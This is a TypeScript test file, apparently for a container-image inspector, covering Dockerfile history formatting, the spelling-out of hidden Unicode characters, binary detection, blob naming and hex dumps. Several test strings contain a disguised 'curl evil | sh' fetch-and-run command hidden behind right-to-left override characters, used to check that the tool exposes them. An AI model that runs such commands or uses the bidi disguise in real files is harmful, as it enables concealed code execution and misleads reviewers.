/** The page's text helpers, on history entries from real image configs (other projects' test data). */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { blobFileName, briefCommand, formatPlatform, hexDump, prettyJson } from '../../src/app/format';
import type { BlobInfo } from '../../src/core/model';
import { escapeHidden, looksBinary, spellOut } from '../../src/core/text';
import { SHARED } from './helpers/tools';

function history(path: string): string[] {
  const config = JSON.parse(readFileSync(join(SHARED, path), 'utf8')) as {
    history: { created_by?: string }[];
  };
  return config.history.map((h) => h.created_by ?? '');
}

describe('briefCommand: a layer step on one line, as in a Dockerfile', () => {
  it("Docker's classic builder (httpd, containers/image's schema2 fixture)", () => {
    const brief = history('containers-image/internal/image/fixtures/schema2-config.json').map(briefCommand);
    expect(brief[0]).toBe('ADD file:c6c23585ab140b0b320d4e99bc1b0eb544c9e96c24d90fec5e069a6d57d335ca in /');
    expect(brief[1]).toBe('CMD ["/bin/bash"]');
    expect(brief[2]).toBe('ENV HTTPD_PREFIX=/usr/local/apache2');
    // A RUN: the shell prefix becomes RUN, and its tabs and line breaks one space each.
    expect(brief[4]).toBe('RUN mkdir -p "$HTTPD_PREFIX" && chown www-data:www-data "$HTTPD_PREFIX"');
    expect(brief[6]).toMatch(
      /^RUN apt-get update && apt-get install -y --no-install-recommends libapr1 libaprutil1 /,
    );
    for (const b of brief) expect(b).not.toMatch(/\s{2}|\t|#\(nop\)|^\/bin\/sh/);
  });

  it("buildkit (regclient's testrepo): '# buildkit' dropped, the rest as written", () => {
    const raw = history(
      'regclient/testdata/testrepo/blobs/sha256/1b2d7646f08dab0f78caec67b30cffd278c2f369b6059c449d8f9f0f70ee6220',
    );
    expect(raw.map(briefCommand)).toEqual(raw.map((c) => c.replace(/ # buildkit$/, '')));
    expect(briefCommand(raw[0])).toBe('COPY base-a.txt /base.txt');
  });

  it('nothing to show for a missing entry', () => {
    expect(briefCommand(null)).toBe('');
    expect(briefCommand('')).toBe('');
  });
});

describe('hidden characters spelled out', () => {
  it('a one-line command spells them out; a multi-line text keeps its line breaks', () => {
    expect(briefCommand('/bin/sh -c echo safe \u202e# ; curl evil | sh')).toBe(
      'RUN echo safe \\u202E# ; curl evil | sh',
    );
    expect(escapeHidden('apt-get update \\\n\t&& \u2066x', true)).toBe('apt-get update \\\n\t&& \\u2066x');
    expect(escapeHidden('a\nb\u0007')).toBe('a\\nb\\u0007');
    // A file's text: CRLF and tabs stay, the rest is spelled out and counted.
    const script = 'echo safe\r\n\tcurl evil \u202e| sh\u0000\r\n';
    expect(escapeHidden(script, true)).toBe('echo safe\r\n\tcurl evil \\u202E| sh\\0\r\n');
    expect(spellOut(script, true)).toEqual({ text: escapeHidden(script, true), hidden: 2 });
    expect(spellOut(script).hidden).toBe(7);
  });

  it('a platform from an index, as selectors and the graph show it', () => {
    expect(formatPlatform({ os: 'linux', architecture: 'arm64', variant: 'v8' })).toBe('linux/arm64/v8');
    expect(formatPlatform({ os: 'linux', architecture: '\u202e46dma' })).toBe('linux/\\u202E46dma');
  });

  it('raw JSON: the escapes are JSON escapes, so the text is the same document', () => {
    const doc = { config: { Labels: { download: 'a\u202egnp.exe', bell: '\u0007' } } };
    const shown = prettyJson(JSON.stringify(doc));
    expect(shown).toContain('"download": "a\\u202Egnp.exe"');
    expect(shown).not.toMatch(/[\u202e\u0007]/);
    expect(JSON.parse(shown)).toEqual(doc);
  });
});

describe('looksBinary: hex or text in the file viewer, as git decides', () => {
  // git's own verdict on the same bytes: `git diff --numstat` prints "-" counts for a binary file.
  function gitSaysBinary(bytes: Buffer): boolean {
    const dir = mkdtempSync(join(tmpdir(), 'layerlens-bin-'));
    try {
      writeFileSync(join(dir, 'f'), bytes);
      const out = execFileSync('git', ['diff', '--no-index', '--numstat', '/dev/null', join(dir, 'f')], {
        env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: dir },
      }).toString();
      return out.startsWith('-\t-\t');
    } catch (e) {
      // git diff --no-index exits 1 when the files differ, which they do.
      const out = String((e as { stdout?: Buffer }).stdout ?? '');
      return out.startsWith('-\t-\t');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }

  const text = readFileSync('/etc/os-release');
  const cases: [string, Buffer][] = [
    ['an executable (/usr/bin/true)', readFileSync('/usr/bin/true')],
    ['os-release', text],
    ['UTF-16 (iconv)', execFileSync('iconv', ['-f', 'UTF-8', '-t', 'UTF-16'], { input: text })],
    ['a NUL after the first 8,000 bytes', Buffer.concat([Buffer.alloc(8000, 'a'), Buffer.from([0])])],
    ['a NUL at byte 7,999', Buffer.concat([Buffer.alloc(7999, 'a'), Buffer.from([0])])],
    ['empty', Buffer.alloc(0)],
  ];
  it.each(cases)('%s', (_name, bytes) => {
    expect(looksBinary(new Uint8Array(bytes))).toBe(gitSaysBinary(bytes));
  });
  it('the executable and UTF-16 are binary, the text is not', () => {
    expect(cases.map(([, b]) => looksBinary(new Uint8Array(b)))).toEqual([
      true,
      false,
      true,
      false,
      true,
      false,
    ]);
  });
});

describe('blobFileName: a downloaded blob named by its digest, with the extension its content calls for', () => {
  const blob = (over: Partial<BlobInfo>): BlobInfo => ({
    key: 'k',
    role: 'layer',
    path: null,
    mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip',
    expectedDigest: `sha256:${'a'.repeat(64)}`,
    expectedSize: null,
    size: null,
    actualDigest: null,
    sizeCheck: { state: 'pending' },
    digestCheck: { state: 'pending' },
    compression: null,
    expectedDiffId: null,
    actualDiffId: null,
    diffIdCheck: { state: 'pending' },
    uncompressedSize: null,
    bytesDone: 0,
    ...over,
  });
  const hex = 'a'.repeat(64);

  it('layers by the compression their bytes showed, whatever the media type says', () => {
    expect(blobFileName(blob({ compression: 'gzip' }), false)).toBe(`${hex}.tar.gz`);
    expect(blobFileName(blob({ compression: 'zstd' }), false)).toBe(`${hex}.tar.zst`);
    expect(blobFileName(blob({ compression: 'none' }), false)).toBe(`${hex}.tar`);
    // Not read yet (a registry layer of another platform): by its media type, until its bytes say.
    expect(blobFileName(blob({ compression: null }), false)).toBe(`${hex}.tar.gz`);
    expect(
      blobFileName(
        blob({ compression: null, mediaType: 'application/vnd.oci.image.layer.v1.tar+zstd' }),
        false,
      ),
    ).toBe(`${hex}.tar.zst`);
    expect(
      blobFileName(
        blob({ compression: null, mediaType: 'application/vnd.docker.image.rootfs.diff.tar' }),
        false,
      ),
    ).toBe(`${hex}.tar`);
    expect(
      blobFileName(
        blob({ compression: 'none', mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip' }),
        false,
      ),
    ).toBe(`${hex}.tar`);
    // Neither gzip nor zstd nor tar: no extension rather than a wrong one.
    expect(blobFileName(blob({ compression: 'unknown' }), false)).toBe(hex);
    expect(blobFileName(blob({ compression: null, mediaType: 'application/octet-stream' }), false)).toBe(hex);
  });

  it('documents and JSON payloads as .json; other payloads by digest alone', () => {
    expect(blobFileName(blob({ role: 'config' }), true)).toBe(`${hex}.json`);
    expect(blobFileName(blob({ role: 'blob', mediaType: 'application/spdx+json' }), false)).toBe(
      `${hex}.json`,
    );
    expect(
      blobFileName(
        blob({ role: 'blob', mediaType: 'application/vnd.cncf.helm.chart.content.v1.tar+gzip' }),
        false,
      ),
    ).toBe(hex);
  });

  it('a blob no descriptor names (a docker save layer) by its computed digest', () => {
    expect(
      blobFileName(
        blob({ expectedDigest: null, actualDigest: `sha256:${'b'.repeat(64)}`, compression: 'none' }),
        false,
      ),
    ).toBe(`${'b'.repeat(64)}.tar`);
    expect(blobFileName(blob({ expectedDigest: null, actualDigest: null }), false)).toBe('blob.tar.gz');
  });
});

describe('hexDump: the viewer’s hex view', () => {
  const work = mkdtempSync(join(tmpdir(), 'layerlens-hex-'));
  /** `hexdump -C` (bsdextrautils) of a file. */
  const hexdump = (path: string) => execFileSync('hexdump', ['-C', path]).toString().replace(/\n$/, '');

  it('prints what hexdump -C prints, repeated lines as one *', () => {
    const files: Record<string, Uint8Array> = {
      empty: new Uint8Array(0),
      hello: new TextEncoder().encode('hello\n'),
      zeros: new Uint8Array(5000),
      // A run that repeats, then differs, then repeats the line before the change again.
      pattern: new Uint8Array([...Array(100).fill(7), ...Array(40).fill(8), ...Array(64).fill(7), 1]),
      // A real binary: every byte value, printable or not, in its first 200 KiB.
      binary: new Uint8Array(readFileSync(process.execPath).subarray(0, 200 * 1024)),
    };
    for (const [name, bytes] of Object.entries(files)) {
      const path = join(work, name);
      writeFileSync(path, bytes);
      const dump = hexDump(bytes, Infinity);
      expect(dump.text, name).toBe(hexdump(path));
      expect(dump.covered).toBe(bytes.length);
    }
    rmSync(work, { recursive: true, force: true });
  });

  it('stops at the lines asked for, a collapsed run counting one, without the length line', () => {
    const bytes = new Uint8Array(1 << 20);
    bytes.set(new TextEncoder().encode('hello'), 4096);
    bytes.set(new TextEncoder().encode('tail'), 8 << 16);
    // Zeros, *, hello, zeros, *, tail: all of the 1 MiB in 7 lines.
    expect(hexDump(bytes, 10).text.split('\n')).toEqual([
      '00000000  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|',
      '*',
      '00001000  68 65 6c 6c 6f 00 00 00  00 00 00 00 00 00 00 00  |hello...........|',
      '00001010  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|',
      '*',
      '00080000  74 61 69 6c 00 00 00 00  00 00 00 00 00 00 00 00  |tail............|',
      '00080010  00 00 00 00 00 00 00 00  00 00 00 00 00 00 00 00  |................|',
      '*',
      '00100000',
    ]);
    const cut = hexDump(bytes, 3);
    expect(cut.text.split('\n')).toHaveLength(3);
    expect(cut.covered).toBe(0x1010);
  });
});
